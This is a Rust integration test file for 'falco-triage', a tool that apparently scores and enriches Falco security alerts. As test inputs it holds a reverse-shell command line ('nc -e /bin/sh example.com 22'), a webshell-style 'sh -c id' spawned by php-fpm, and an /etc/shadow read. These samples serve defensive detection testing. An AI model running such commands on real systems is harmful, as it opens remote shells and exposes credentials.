//! The `falco-triage` binary end to end: what it prints is what the core computes for the
//! facts its input describes, and `enrich` never loses, reorders or corrupts a line.

use falco_triage::analysis::analyze;
use falco_triage::cli::{alert, explain, scenarios, SAMPLE_ALERT};
use falco_triage::report;
use serde_json::Value;
use std::io::Write;
use std::process::{Command, Output, Stdio};

fn run(args: &[&str], stdin: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_falco-triage"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("binary runs");
    let mut input = child.stdin.take().unwrap();
    let data = stdin.to_vec();
    // Write on a thread: a large input must not deadlock against a full stdout pipe.
    let writer = std::thread::spawn(move || {
        let _ = input.write_all(&data);
    });
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    out
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).expect("UTF-8 stdout")
}

#[test]
fn no_arguments_explains_the_bundled_sample() {
    let out = run(&[], b"");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (facts, lineage) = alert::facts_from_alert(SAMPLE_ALERT).unwrap();
    let verdict = analyze(&facts, &lineage);
    let text = report::render(&facts, &lineage, &verdict);
    let expected = report::text_report(&facts, &lineage, &verdict, &text);
    assert_eq!(stdout(&out), expected);
}

#[test]
fn explain_json_is_exactly_the_json_report() {
    let args = [
        "explain",
        "--json",
        "--exe",
        "/usr/bin/nc.openbsd",
        "--parent",
        "event-generator",
        "--parent",
        "containerd-shim",
        "--container",
        "1d45a96b1daa",
        "--uid",
        "0",
        "--exe-flags",
        "writable,lower_layer",
        "--env",
        "HOME=/root",
        "--res",
        "-2",
        "--",
        "nc",
        "-e",
        "/bin/sh",
        "example.com",
        "22",
    ];
    let out = run(&args, b"");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = stdout(&out);
    assert_eq!(text.matches('\n').count(), 1, "one line");
    let input = explain::ExplainInput {
        argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
            .map(String::from)
            .to_vec(),
        exe: Some("/usr/bin/nc.openbsd".into()),
        parents: vec!["event-generator".into(), "containerd-shim".into()],
        container: Some(Some("1d45a96b1daa".into())),
        uid: Some(0),
        exe_flags: vec!["writable,lower_layer".into()],
        env: vec!["HOME=/root".into()],
        res: Some(-2),
        ..Default::default()
    };
    let (facts, lineage) = explain::facts_from_input(&input).unwrap();
    assert_eq!(facts.res, Some(-2));
    let verdict = analyze(&facts, &lineage);
    let expected = report::json_report(
        &facts,
        &lineage,
        &verdict,
        &report::render(&facts, &lineage, &verdict),
    );
    assert_eq!(
        serde_json::from_str::<Value>(text.trim_end()).unwrap(),
        expected
    );
    assert_eq!(text.trim_end(), expected.to_string());
}

#[test]
fn explain_rejects_bad_input_with_a_reason() {
    let out = run(&["explain", "--caps", "CAP_FLY", "--", "id"], b"");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("CAP_FLY"));
    let out = run(&["explain"], b"");
    assert!(!out.status.success(), "argv is required");
}

#[test]
fn enrich_keeps_every_line_in_order() {
    let sample = SAMPLE_ALERT.trim_end();
    let non_exec = r#"{"output_fields":{"fd.name":"/etc/shadow"},"rule":"Read sensitive file"}"#;
    let mut input = Vec::new();
    input.extend_from_slice(sample.as_bytes());
    input.extend_from_slice(b"\n{not json\n");
    input.extend_from_slice(non_exec.as_bytes());
    input.extend_from_slice(b"\n\n\xff\xfe binary\n");
    input.extend_from_slice(sample.as_bytes()); // last line without a newline
    let out = run(&["enrich"], &input);
    assert!(out.status.success());
    let lines: Vec<&[u8]> = out.stdout.split(|&b| b == b'\n').collect();
    assert_eq!(lines.len(), 6, "six lines, the last unterminated");
    assert!(!out.stdout.ends_with(b"\n"));
    assert_eq!(lines[1], b"{not json");
    assert_eq!(lines[2], non_exec.as_bytes());
    assert_eq!(lines[3], b"");
    assert_eq!(lines[4], b"\xff\xfe binary");
    let (facts, lineage) = alert::facts_from_alert(sample).unwrap();
    let verdict = analyze(&facts, &lineage);
    let text = report::render(&facts, &lineage, &verdict);
    for enriched in [lines[0], lines[5]] {
        let v: Value = serde_json::from_slice(enriched).expect("enriched line is JSON");
        let f = &v["output_fields"];
        assert_eq!(f["triage.risk"], verdict.risk);
        assert_eq!(f["triage.severity"], verdict.severity.as_str());
        assert_eq!(f["triage.category"], verdict.category);
        assert_eq!(f["triage.summary"], text.summary.as_str());
        assert!(f["triage.mitre.techniques"].is_array() && f["triage.mitigations"].is_array());
        assert_eq!(
            f["triage.report"],
            report::json_report(&facts, &lineage, &verdict, &text)
        );
        // Nothing of the original is lost.
        let original: Value = serde_json::from_str(sample).unwrap();
        for (k, val) in original["output_fields"].as_object().unwrap() {
            assert_eq!(&f[k], val, "{k}");
        }
        assert_eq!(v["rule"], original["rule"]);
    }
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("line 2:") && err.contains("line 5:"), "{err}");
    assert!(
        !err.contains("line 3:") && !err.contains("line 1:"),
        "{err}"
    );
}

#[test]
fn enrich_passes_oversized_lines_through_unparsed() {
    // Through the library with a small limit: same code path as the binary's 4 MiB.
    let long = format!(
        "{{\"output_fields\":{{\"proc.cmdline\":\"{}\"}}}}",
        "a ".repeat(2000)
    );
    let input = format!("{long}\n{}\n", SAMPLE_ALERT.trim_end());
    let mut out = Vec::new();
    let mut err = Vec::new();
    let stats = alert::enrich_stream(input.as_bytes(), &mut out, &mut err, 2048).unwrap();
    assert_eq!((stats.lines, stats.oversized, stats.enriched), (2, 1, 1));
    let text = String::from_utf8(out).unwrap();
    assert_eq!(text.lines().next(), Some(long.as_str()));
    assert!(String::from_utf8(err)
        .unwrap()
        .contains("line 1: longer than 2048 bytes"));
}

#[test]
fn enrich_reads_a_file_argument() {
    let path =
        std::env::temp_dir().join(format!("falco-triage-alerts-{}.json", std::process::id()));
    std::fs::write(&path, SAMPLE_ALERT).unwrap();
    let out = run(&["enrich", path.to_str().unwrap()], b"ignored");
    std::fs::remove_file(&path).unwrap();
    assert!(out.status.success());
    let v: Value = serde_json::from_slice(out.stdout.trim_ascii_end()).unwrap();
    assert!(v["output_fields"]["triage.report"].is_object());
    let out = run(&["enrich", "/nonexistent/alerts.json"], b"");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot open"));
}

#[test]
fn scap_lists_and_writes_scenarios() {
    let out = run(&["scap", "--list"], b"");
    assert!(out.status.success());
    let listing = stdout(&out);
    for s in scenarios::SCENARIOS {
        assert!(listing.contains(s.name), "{} listed", s.name);
    }
    let dir = std::env::temp_dir();
    let plain = dir.join(format!("falco-triage-{}.scap", std::process::id()));
    let gz = dir.join(format!("falco-triage-{}.scap.gz", std::process::id()));
    let out = run(
        &[
            "scap",
            "--scenario",
            "php-fpm-webshell",
            "-o",
            plain.to_str().unwrap(),
        ],
        b"",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bytes = std::fs::read(&plain).unwrap();
    let expected = scenarios::capture(&[scenarios::find("php-fpm-webshell").unwrap()])
        .write_to(Vec::new(), false)
        .unwrap();
    assert_eq!(bytes, expected);
    let out = run(
        &["scap", "--all", "--gzip", "-o", gz.to_str().unwrap()],
        b"",
    );
    assert!(out.status.success());
    assert_eq!(&std::fs::read(&gz).unwrap()[..2], &[0x1f, 0x8b]);
    let _ = std::fs::remove_file(&plain);
    let _ = std::fs::remove_file(&gz);

    let out = run(
        &["scap", "--scenario", "nope", "-o", plain.to_str().unwrap()],
        b"",
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--list"));
    assert!(
        !run(&["scap", "--all"], b"").status.success(),
        "-o is required"
    );
}

#[test]
fn catalog_json_has_both_tables() {
    let out = run(&["catalog", "--json"], b"");
    assert!(out.status.success());
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["signals"].is_array() && v["mitigations"].is_array());
    assert!(run(&["catalog"], b"").status.success());
}

/// `explain --parent`, `enrich`'s `proc.pname`/`proc.aname[N]` and a lineage built from comms
/// (what the plugin's thread-table walk yields) are one input: the same exec under the same
/// parents gets the same verdict on every path.
#[test]
fn parents_from_options_and_from_alert_fields_give_the_same_verdict() {
    let input = explain::ExplainInput {
        argv: ["sh", "-c", "id"].map(String::from).to_vec(),
        exe: Some("/bin/sh".into()),
        parents: vec!["php-fpm".into(), "containerd-shim".into()],
        container: Some(Some("1d45a96b1daa".into())),
        uid: Some(33),
        ..Default::default()
    };
    let (facts, lineage) = explain::facts_from_input(&input).unwrap();
    let from_options = analyze(&facts, &lineage);

    let alert = r#"{"output_fields":{"proc.cmdline":"sh -c id","proc.exepath":"/bin/sh",
        "proc.pname":"php-fpm","proc.aname[2]":"containerd-shim","container.id":"1d45a96b1daa",
        "user.uid":33}}"#
        .replace('\n', "");
    let (alert_facts, alert_lineage) = falco_triage::cli::alert::facts_from_alert(&alert).unwrap();
    let from_alert = analyze(&alert_facts, &alert_lineage);

    let from_comms = analyze(
        &facts,
        &falco_triage::analysis::Lineage::from_comms(["php-fpm", "containerd-shim"]),
    );
    let summary = report::render(&facts, &lineage, &from_options).summary;
    let comms = falco_triage::analysis::Lineage::from_comms(["php-fpm", "containerd-shim"]);
    for (other, other_summary) in [
        (
            &from_alert,
            report::render(&alert_facts, &alert_lineage, &from_alert).summary,
        ),
        (
            &from_comms,
            report::render(&facts, &comms, &from_comms).summary,
        ),
    ] {
        assert_eq!(other.risk, from_options.risk);
        assert_eq!(other.category, from_options.category);
        assert_eq!(other.techniques, from_options.techniques);
        assert_eq!(other_summary, summary);
    }
    assert!(from_options.risk >= 70, "{summary}");
}

// ---------------------------------------------------------------------------------------
// enrich on random line mixes (issue 7): nothing dropped, reordered or cut, whatever comes.

mod enrich_properties {
    use super::*;
    use proptest::collection::vec;
    use proptest::prelude::*;
    use std::io::{self, BufReader};

    /// The limit the property uses, small so oversized lines are cheap to generate.
    const MAX_LINE: usize = 600;

    /// One input line, without its terminator.
    fn line() -> impl Strategy<Value = Vec<u8>> {
        let sample = SAMPLE_ALERT.trim_end().as_bytes().to_vec();
        prop_oneof![
            // An exec alert (enriched): the sample, or one whose command line is hostile.
            3 => Just(sample.clone()),
            3 => proptest::string::string_regex("[ -~\u{1b}\u{7f}\u{85}\u{202e}é\t]{0,80}")
                .expect("regex")
                .prop_map(|cmd| serde_json::json!({"output_fields": {"proc.cmdline": cmd, "proc.pname": cmd}}).to_string().into_bytes()),
            // Valid JSON that is not an exec alert (passed through).
            1 => Just(br#"{"output_fields":{"fd.name":"/etc/shadow"}}"#.to_vec()),
            1 => Just(b"[1,2,3]".to_vec()),
            1 => Just(br#"{"output_fields":null}"#.to_vec()),
            // Blank and whitespace lines (passed through).
            1 => Just(Vec::new()),
            1 => Just(b" \t\r".to_vec()),
            // Malformed: cut JSON, random bytes, non-UTF-8, a CR before the LF.
            2 => (0..sample.len()).prop_map(move |n| sample[..n].to_vec()),
            2 => vec(any::<u8>().prop_filter("no LF", |b| *b != b'\n'), 0..120),
            1 => Just(b"\xff\xfe{\"output_fields\":1}".to_vec()),
            1 => Just(format!("{}\r", SAMPLE_ALERT.trim_end()).into_bytes()),
            // Over the limit (passed through unparsed).
            1 => (MAX_LINE + 1..MAX_LINE * 3).prop_map(|n| vec![b'z'; n]),
        ]
    }

    /// A writer that accepts whole writes until its budget would be exceeded, then fails:
    /// what it holds is exactly what reached the output before an I/O error.
    struct FailingWriter {
        out: Vec<u8>,
        budget: usize,
    }

    impl Write for FailingWriter {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            if buf.len() > self.budget {
                return Err(io::Error::new(io::ErrorKind::BrokenPipe, "closed"));
            }
            self.budget -= buf.len();
            self.out.extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    fn enrich(input: &[u8], capacity: usize) -> (Vec<u8>, String, alert::EnrichStats) {
        let mut out = Vec::new();
        let mut err = Vec::new();
        let reader = BufReader::with_capacity(capacity, input);
        let stats =
            alert::enrich_stream(reader, &mut out, &mut err, MAX_LINE).expect("no I/O error");
        (out, String::from_utf8(err).expect("UTF-8 errors"), stats)
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        #[test]
        fn enrich_keeps_lines_whole_and_in_order(
            lines in vec(line(), 0..12),
            terminated in any::<bool>(),
            capacity in 1usize..256,
        ) {
            let mut input = lines.join(&b'\n');
            if terminated && !lines.is_empty() {
                input.push(b'\n');
            }
            let (out, err, stats) = enrich(&input, capacity);

            // The same whatever the reader's buffer size.
            let (out_big, err_big, _) = enrich(&input, 1 << 16);
            prop_assert_eq!(&out, &out_big);
            prop_assert_eq!(&err, &err_big);

            // One output line per input line, the terminator kept or absent as it was.
            // `a\n` is one line, `a\nb` two, `` none.
            let expected_lines = input.split(|b| *b == b'\n').count()
                - usize::from(input.is_empty() || input.ends_with(b"\n"));
            prop_assert_eq!(stats.lines as usize, expected_lines);
            // A panic is caught and the line passed through, but it is a bug.
            prop_assert_eq!(stats.failed, 0, "{}", err);
            prop_assert_eq!(
                stats.enriched + stats.passed_through + stats.malformed + stats.oversized,
                stats.lines
            );
            prop_assert_eq!(out.ends_with(b"\n"), input.ends_with(b"\n"));
            if input.is_empty() {
                prop_assert!(out.is_empty());
                return Ok(());
            }
            let out_lines: Vec<&[u8]> = out.split(|b| *b == b'\n').collect();
            let in_lines: Vec<&[u8]> = input.split(|b| *b == b'\n').collect();
            prop_assert_eq!(out_lines.len(), in_lines.len());

            let mut enriched = 0;
            for (i, (o, l)) in out_lines.iter().zip(&in_lines).enumerate() {
                if o == l {
                    continue;
                }
                // A changed line is an enriched alert: valid JSON, the original fields
                // intact, the triage fields added, escaped.
                enriched += 1;
                let original: Value = serde_json::from_slice(l).expect("only JSON is enriched");
                let v: Value = serde_json::from_slice(o).expect("an enriched line is JSON");
                let fields = &v["output_fields"];
                for (k, val) in original["output_fields"].as_object().expect("fields") {
                    prop_assert_eq!(&fields[k], val, "line {}: {} changed", i + 1, k);
                }
                let summary = fields["triage.summary"].as_str().expect("a summary");
                prop_assert!(!summary.chars().any(char::is_control), "{:?}", summary);
                prop_assert!(fields["triage.report"].is_object());
            }
            prop_assert_eq!(enriched, stats.enriched);

            // Every malformed or oversized line is reported once, on its own error line.
            let reports: Vec<&str> = err.lines().collect();
            prop_assert_eq!(reports.len() as u64, stats.malformed + stats.oversized);
            for r in &reports {
                prop_assert!(r.starts_with("falco-triage: line "), "{}", r);
            }
        }

        #[test]
        fn an_output_error_never_leaves_a_partial_line(
            lines in vec(line().prop_filter("not oversized", |l| l.len() <= MAX_LINE), 1..10),
            budget in 0usize..8000,
        ) {
            let mut input = lines.join(&b'\n');
            input.push(b'\n');
            let mut full = Vec::new();
            alert::enrich_stream(&input[..], &mut full, io::sink(), MAX_LINE).expect("no I/O error");
            let mut w = FailingWriter { out: Vec::new(), budget };
            let result = alert::enrich_stream(&input[..], &mut w, io::sink(), MAX_LINE);
            prop_assert!(full.starts_with(&w.out), "the output is a prefix of the full one");
            prop_assert!(w.out.is_empty() || w.out.ends_with(b"\n"), "a partial line was written");
            prop_assert_eq!(result.is_ok(), w.out.len() == full.len());
        }
    }
}
